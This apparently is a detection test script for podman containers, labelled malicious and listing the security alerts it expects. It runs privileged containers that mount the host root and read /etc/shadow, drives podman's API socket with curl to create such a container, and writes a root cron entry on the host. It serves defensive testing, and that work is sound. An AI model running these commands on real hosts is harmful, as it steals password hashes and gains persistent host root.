# podman-containers-against-host: containers of podman are given the host's disk, its processes and every privilege; then its API is asked.
# shows: podman's command line, the runtime's bind mounts and capabilities, the connection to podman's socket
# label: malicious
# expects: [privileged-container, host-root-mount, password-hashes-read]
# allows: [dangerous-capability-added, host-namespaces-shared, command-executed-in-container, api-called-by-script, socket-parent-mount, engine-socket-connected, engine-socket-unexpected-client, minor-host-namespaces-shared, sensitive-mount-rw, sensitive-mount-ro]
prepare() { podman_prepare alpine:3.19 redis:7; }
act() {
    if dev; then
        podman run --rm --privileged -v /:/host alpine:3.19 sh -c 'id; cat /host/etc/shadow | head -1; ls /dev | head'
        podman run --rm --pid=host --cap-add SYS_PTRACE alpine:3.19 sh -c 'ps | head -3; readlink /proc/1/root'
        podman_service
        curl -s --unix-socket /run/podman/podman.sock http://d/v4.0.0/libpod/info | head -c 100
        curl -s --unix-socket /run/podman/podman.sock -H 'Content-Type: application/json' -d '{"image":"alpine:3.19","name":"p1","privileged":true,"command":["sh","-c","id"],"mounts":[{"destination":"/mnt","source":"/","type":"bind","options":["rbind"]}]}' http://d/v4.0.0/libpod/containers/create
        curl -s --unix-socket /run/podman/podman.sock -X POST http://d/v4.0.0/libpod/containers/p1/start
    else
        podman create --name warm --privileged=true --mount type=bind,source=/,target=/mnt redis:7 sh -c 'cat /mnt/etc/shadow; sleep 3'
        podman start warm
        podman exec warm sh -c 'head -c 10 /mnt/etc/shadow; cat /proc/1/status'
        podman rm -f -t 0 warm
        podman_service
        podman --remote --url unix:///run/podman/podman.sock run --rm --ipc host --uts=host --userns=host -v /etc:/e localhost/redis:7 sh -c 'echo "* * * * * root id" >/e/cron.d/sync'
    fi
    true
}
restore() { podman_restore; rm -f /etc/cron.d/sync; }
